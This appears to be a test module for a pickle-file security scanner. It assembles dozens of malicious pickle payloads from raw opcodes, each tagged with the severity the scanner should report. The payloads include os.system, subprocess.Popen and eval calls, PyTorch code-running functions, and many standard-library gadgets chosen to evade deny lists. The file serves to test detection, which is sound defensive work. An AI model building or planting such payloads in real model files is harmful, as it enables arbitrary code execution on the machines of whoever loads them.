"""Attacks by what a pickle calls: rows T1, T7, T8 and P1 of the threat catalogue."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from typing import Any

from tests.attacks.frame import Attacks, Outcome, Trap, named
from tests.attacks.opcodes import (
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    PROTO,
    REDUCE,
    SETITEM,
    STOP,
    call,
    dictionary,
    raw,
    stacked,
    system,
    text,
    tuple_of,
)
from tests.attacks.opcodes import named as name_of

ATTACKS = Attacks()
CRITICAL = named("pickle_global", "critical", "@")
HIGH = named("pickle_global", "high", "@")
COMPUTED = named("pickle_computed_call", "high", "@")
LOOKED_UP = named("pickle_computed_global", "high", "@")
CONFUSED = named("pickle_type_confusion", "high", "@")
DOCS = "https://docs.python.org/3/library/pickle.html"
FICKLING = "fickling test/test_bypasses.py"
PICKLESCAN = "picklescan tests/test_scanner.py"
MODELAUDIT = "modelaudit tests/assets"


TRIED = "tried here: a name that lists of good names allow"


def by_opcodes(attacks: Attacks) -> Callable[..., None]:
    """A way to add pickles of one value, which is made by opcodes, to these attacks."""

    def gadget(id_: str, name: str, idea: str, make: Any, expects: Outcome, source: str = TRIED) -> None:
        attacks.add(id_, name, idea, source, lambda trap: PROTO[4] + make(trap) + STOP, expects)

    return gadget


def os_system(trap: Trap) -> bytes:
    """The plainest payload, with the command of this trap."""
    return system(trap.command)


# What a pickle can call, by every opcode that calls (T1)


@ATTACKS("T1-01", source=DOCS, expects=CRITICAL)
def reduce(trap: Trap) -> bytes:
    """REDUCE calls a function of the file's choice."""
    return PROTO[2] + os_system(trap) + STOP


@ATTACKS("T1-02", source="https://github.com/moreati/pickle-fuzz", expects=CRITICAL)
def inst(trap: Trap) -> bytes:
    """INST names and calls in one opcode of protocol 0."""
    return MARK + b"S'%s'\nios\nsystem\n." % trap.command.encode()


@ATTACKS("T1-03", source="https://github.com/trailofbits/fickling/pull/108", expects=CRITICAL)
def obj(trap: Trap) -> bytes:
    """OBJ calls the first of what lies above the mark."""
    return MARK + name_of("pty", "spawn") + text(trap.command) + OBJ + STOP


@ATTACKS("T1-04", source=DOCS, expects=HIGH)
def newobj(trap: Trap) -> bytes:
    """NEWOBJ makes an object of a class that starts programs."""
    return PROTO[2] + name_of("subprocess", "Popen") + tuple_of(text(trap.command)) + NEWOBJ + STOP


@ATTACKS("T1-05", source=DOCS, expects=HIGH)
def newobj_ex(trap: Trap) -> bytes:
    """NEWOBJ_EX does so with keyword arguments."""
    arguments = EMPTY_TUPLE + dictionary(args=text(trap.command), shell=b"\x88")  # noqa: S604 - an argument of the payload
    return PROTO[4] + stacked("subprocess", "Popen") + arguments + NEWOBJ_EX + STOP


@ATTACKS("T1-06", source="GHSA-mhc9-48gj-9gp3", expects=CRITICAL)
def reduce_and_build(trap: Trap) -> bytes:
    """BUILD behind the call makes its result look used, and so harmless to a scanner that reports unused ones."""
    return PROTO[2] + os_system(trap) + text("gottem") + BUILD + STOP


@ATTACKS("T1-07", source=DOCS, expects=named("pickle_type_confusion", "high", "@"))
def build_overwrites_a_class(trap: Trap) -> bytes:
    """BUILD on a class, not on an object of it, replaces its `__setstate__`, which a second BUILD then calls."""
    state = EMPTY_DICT + text("__setstate__") + name_of("os", "system") + SETITEM
    victim = name_of("torch.nn.modules.linear", "Linear")
    made = victim + state + BUILD + POP + victim + EMPTY_TUPLE + NEWOBJ + text(trap.command) + BUILD
    return PROTO[2] + made + STOP


@ATTACKS("T1-08", source=DOCS, expects=named("pickle_class", "medium", "@"))
def setstate_of_an_unknown_class(trap: Trap) -> bytes:
    """BUILD runs `__setstate__` of whatever class the file names; nobody here knows what that one does."""
    return PROTO[2] + name_of("vendor.plugin", "Loader") + EMPTY_TUPLE + NEWOBJ + text(trap.command) + BUILD + STOP


def _reconstructor(base: bytes, trap: Trap) -> bytes:
    made = call(name_of("copyreg", "_reconstructor"), base, base, text(trap.command))
    return PROTO[2] + made + STOP


@ATTACKS("T1-09", source="CPython Lib/copyreg.py", expects=CRITICAL)
def reconstructor_calls_init(trap: Trap) -> bytes:
    """`copyreg._reconstructor(cls, base, state)` rebuilds objects, and calls `base.__init__(obj, state)` on the way."""
    return _reconstructor(name_of("subprocess", "Popen"), trap)


@ATTACKS("T1-10", source="CPython Lib/copyreg.py", expects=HIGH)
def reconstructor_calls_an_unknown_init(trap: Trap) -> bytes:
    """The same with a class that is on no list."""
    return _reconstructor(name_of("vendor.process", "Runner"), trap)


for _protocol in range(6):

    def _every_protocol(trap: Trap, protocol: int = _protocol) -> bytes:
        class Payload:
            def __reduce__(self) -> tuple[object, ...]:
                return eval, (trap.python,)

        return pickle.dumps({"weights": [1.0], "payload": Payload()}, protocol)

    ATTACKS.add(f"T1-2{_protocol}", f"written_by_pickle_protocol_{_protocol}",
                f"What pickle.dumps itself writes for a `__reduce__`, protocol {_protocol}.", DOCS, _every_protocol,
                CRITICAL)  # fmt: skip


# PyTorch's own functions (T7)

for _number, (_module, _name, _source) in enumerate(
    [
        ("torch.jit.annotations", "parse_type_line", "CVE-2022-45907"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", "GHSA-vr7h-p6mm-wpmh"),
        ("torch.distributed.rpc", "rpc_sync", "CVE-2024-48063"),
        ("torch.distributed.rpc.internal", "_run_function", "CVE-2024-5480"),
        ("torch.hub", "load", "https://docs.pytorch.org/docs/stable/hub.html"),
        ("torch.serialization", "load", "picklescan malicious19.pkl"),
        ("torch.utils.cpp_extension", "load_inline", "https://docs.pytorch.org/docs/stable/cpp_extension.html"),
        ("torch.utils.collect_env", "run_and_read_all", "GHSA-jhph-76pp-mggw"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", "GHSA-4r9r-ch6f-vxmx"),
        ("torch.utils._config_module", "ConfigModule.load_config", "GHSA-vv6j-3g6g-2pvj"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "GHSA-h3qp-7fh3-f8h4"),
        ("torch._dynamo.guards", "GuardBuilder.get", "GHSA-86cj-95qr-2p4f"),
        ("torch._inductor.codecache", "compile_file", "picklescan malicious16.pkl"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "GHSA-f4x7-rfwp-v3xw"),
        ("torch.package", "PackageImporter", "https://docs.pytorch.org/docs/stable/package.html"),
        ("torch._C", "_import_ir_module_from_package", "https://github.com/pytorch/pytorch torch/package"),
    ],
    start=1,
):

    def _of_torch(trap: Trap, module: str = _module, name: str = _name) -> bytes:
        return PROTO[2] + call(name_of(module, name), text(trap.python)) + STOP

    ATTACKS.add(f"T7-{_number:02}", _name.replace(".", "_"), f"Calls {_module}.{_name}, which runs what it is told.",
                _source, _of_torch, HIGH if _module == "torch._C" else CRITICAL)  # fmt: skip


@ATTACKS(
    "T8-01",
    source="https://github.com/stanfordnlp/stanza/releases (1.12: unsafe load after a safe one failed)",
    expects=HIGH,
)
def one_unknown_global(trap: Trap) -> bytes:
    """One unknown function, so that a loader gives up loading safely; here there is no other way."""
    return PROTO[2] + call(name_of("vendor.legacy", "rebuild"), text(trap.command)) + STOP


# What is on no list of bad names (P1)

for _number, (_module, _name) in enumerate(
    [
        ("pkgutil", "resolve_name"), ("pip", "main"), ("pydoc", "pipepager"), ("venv", "create"), ("bdb", "Bdb.run"),
        ("code", "InteractiveInterpreter.runcode"), ("cProfile", "run"), ("timeit", "timeit"), ("trace", "Trace.run"),
        ("doctest", "debug_script"), ("ensurepip", "_run_pip"), ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("distutils.file_util", "write_file"), ("uuid", "_get_command_stdout"), ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"), ("imaplib", "IMAP4_stream"), ("_pyrepl.pager", "pipe_pager"),
        ("test.support.script_helper", "assert_python_ok"), ("numpy.testing._private.utils", "runstring"),
        ("numpy.f2py.crackfortran", "getlincoef"), ("logging", "FileHandler"), ("_io", "FileIO"),
        ("linecache", "getline"),
        ("urllib.request", "urlopen"), ("ssl", "get_server_certificate"), ("ctypes", "CDLL"), ("types", "CodeType"),
        ("cloudpickle.cloudpickle", "_make_function"), ("multiprocessing.util", "spawnv_passfds"),
        ("zipimport", "zipimporter"),
        ("logging.config", "listen"), ("_posixsubprocess", "fork_exec"), ("nntplib", "NNTP"), ("turtle", "config_dict"),
        ("tkinter", "Tcl"), ("getpass", "getuser"), ("filecmp", "cmp"), ("netrc", "netrc"), ("mailbox", "mbox"),
        ("csv", "DictReader"), ("stat", "filemode"), ("encodings", "search_function"), ("wave", "open"),
        ("pyclbr", "readmodule"),
        ("configparser", "RawConfigParser.read"), ("dis", "dis"), ("rlcompleter", "Completer.attr_matches"),
    ],
    start=1,
):  # fmt: skip

    def _of_the_library(trap: Trap, module: str = _module, name: str = _name) -> bytes:
        return PROTO[4] + stacked(module, name) + tuple_of(text(trap.command)) + REDUCE + STOP

    ATTACKS.add(f"P1-{_number:02}", f"{_module}_{_name}".replace(".", "_"),
                f"Calls {_module}.{_name}: gadgets of the standard library are more than any list of bad names holds.",
                f"{PICKLESCAN}; CVE-2026-56315, GHSA-g38g-8gr9-h9xp and others", _of_the_library,
                CRITICAL if _number <= 36 and _number not in (16, 21) else HIGH)  # fmt: skip


@ATTACKS("P1-60", source="security.md row P1", expects=HIGH)
def a_name_of_nobody(trap: Trap) -> bytes:
    """A function that is on no list at all, good or bad."""
    return PROTO[2] + call(name_of("acme.tools", "run"), text(trap.command)) + STOP


@ATTACKS("P1-61", source="GHSA-955r-x9j8-7rhh", expects=CRITICAL)
def methodcaller(trap: Trap) -> bytes:
    """`operator.methodcaller("system", command)` applied to an imported module."""
    imported = call(name_of("builtins", "__import__"), text("os"))
    caller = call(name_of("_operator", "methodcaller"), text("system"), text(trap.command))
    return PROTO[4] + caller + imported + b"\x85" + REDUCE + STOP


@ATTACKS("P1-62", source="GHSA-46h3-79wf-xr6c", expects=CRITICAL)
def attrgetter(trap: Trap) -> bytes:
    """`operator.attrgetter("system")` applied to an imported module, and its result called."""
    imported = call(name_of("builtins", "__import__"), text("os"))
    getter = call(name_of("_operator", "attrgetter"), text("system"))
    return PROTO[4] + getter + imported + b"\x85" + REDUCE + text(trap.command) + b"\x85" + REDUCE + STOP


@ATTACKS("P1-63", source="numpy/random/_pickle.py", expects=CRITICAL)
def a_rebuilder_that_calls_its_argument(trap: Trap) -> bytes:
    """NumPy's `__randomstate_ctor(name, ctor)` only rebuilds a generator, by calling `ctor(name)`."""
    made = call(name_of("numpy.random._pickle", "__randomstate_ctor"), text(trap.command), name_of("os", "system"))
    return PROTO[2] + made + STOP


@ATTACKS("P1-64", source="numpy/random/_pickle.py", expects=HIGH)
def a_rebuilder_that_calls_an_unknown_function(trap: Trap) -> bytes:
    """The same with a function that is on no list: being given to a call is being called."""
    made = call(name_of("numpy.random._pickle", "__randomstate_ctor"), text(trap.command), name_of("acme.tools", "run"))
    return PROTO[2] + made + STOP


@ATTACKS("P1-65", source="torch/_tensor.py", expects=CRITICAL)
def rebuild_from_type(trap: Trap) -> bytes:
    """`_rebuild_from_type_v2(func, type, args, state)` calls `func(*args)`."""
    arguments = (name_of("os", "system"), name_of("torch", "Tensor"), tuple_of(text(trap.command)), EMPTY_DICT)
    return PROTO[2] + call(name_of("torch._tensor", "_rebuild_from_type_v2"), *arguments) + STOP


@ATTACKS("P1-66", source="numpy/_core/__init__.py", expects=CRITICAL)
def ufunc_reconstruct(trap: Trap) -> bytes:
    """NumPy's `_ufunc_reconstruct(module, name)` imports any module and hands out any name of it."""
    found = call(name_of("numpy._core", "_ufunc_reconstruct"), text("os"), text("system"))
    return PROTO[2] + found + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P1-67", source="picklescan malicious20.pkl", expects=CRITICAL)
def partial_that_is_called(trap: Trap) -> bytes:
    """`functools.partial` of a harmless-looking function, called in the same pickle."""
    made = call(name_of("functools", "partial"), name_of("os", "system"), text(trap.command))
    return PROTO[2] + made + EMPTY_TUPLE + REDUCE + STOP


@ATTACKS("P1-68", source="CPython Modules/_functoolsmodule.c", expects=CRITICAL)
def partial_filled_by_build(trap: Trap) -> bytes:
    """A partial of nothing bad gets another function by BUILD, as its `__setstate__` allows."""
    made = call(name_of("functools", "partial"), name_of("collections", "OrderedDict"))
    state = tuple_of(name_of("os", "system"), tuple_of(text(trap.command)), EMPTY_DICT, NONE)
    return PROTO[2] + made + state + BUILD + EMPTY_TUPLE + REDUCE + STOP


@ATTACKS("P1-69", source="CPython Objects/funcobject.c", expects=CRITICAL)
def function_of_code(trap: Trap) -> bytes:
    """`types.FunctionType(marshal.loads(bytes), {})` is code out of the file itself."""
    code = call(name_of("marshal", "loads"), raw(b"\xe3" + bytes(40)))
    made = call(name_of("types", "FunctionType"), code, EMPTY_DICT)
    return PROTO[4] + made + EMPTY_TUPLE + REDUCE + STOP


@ATTACKS("P1-70", source=DOCS, expects=CRITICAL)
def map_over_a_function(trap: Trap) -> bytes:
    """`list(map(os.system, [command]))`: nothing is called by the pickle but built-ins."""
    mapped = call(name_of("builtins", "map"), name_of("os", "system"), EMPTY_LIST + MARK + text(trap.command) + APPENDS)
    return PROTO[2] + call(name_of("builtins", "list"), mapped) + STOP


@ATTACKS("P1-71", source=DOCS, expects=CRITICAL)
def default_of_a_dictionary(trap: Trap) -> bytes:
    """A `defaultdict` calls its factory the first time a key is missing: after loading, out of sight."""
    return PROTO[2] + call(name_of("collections", "defaultdict"), name_of("os", "abort")) + STOP


@ATTACKS("P1-72", source="picklescan malicious3.pkl", expects=CRITICAL)
def names_of_python_2(trap: Trap) -> bytes:
    """`commands.getoutput` is `subprocess.getoutput` to an unpickler that maps Python 2's names."""
    return call(name_of("commands", "getoutput"), b"S'%s'\n" % trap.command.encode()) + STOP
